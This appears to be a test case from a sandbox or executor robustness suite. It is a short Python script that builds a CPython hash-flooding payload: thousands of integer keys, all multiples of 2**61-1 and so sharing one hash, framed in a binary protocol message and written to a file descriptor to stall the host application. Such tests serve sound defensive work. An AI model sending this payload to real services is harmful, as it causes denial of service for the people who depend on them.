"""Ends with a dict whose keys have one hash.

tries: make the application compare each key with each other, with its interpreter's lock held
layers: executor
observed: killed protocol | completed
runs: once
host: application
source: hash flooding of CPython's integers, whose hash is not randomised
"""

import os
import struct
import time

modulus = (1 << 61) - 1
pairs = ",".join(f"[{number * modulus},0]" for number in range(16_000))
value = b'{"$":["dict",[%s]]}' % pairs.encode()
sent = struct.pack("<IBB", 2 + len(value), 19, 1) + value
while sent:
    sent = sent[os.write(3, sent) :]
time.sleep(60)
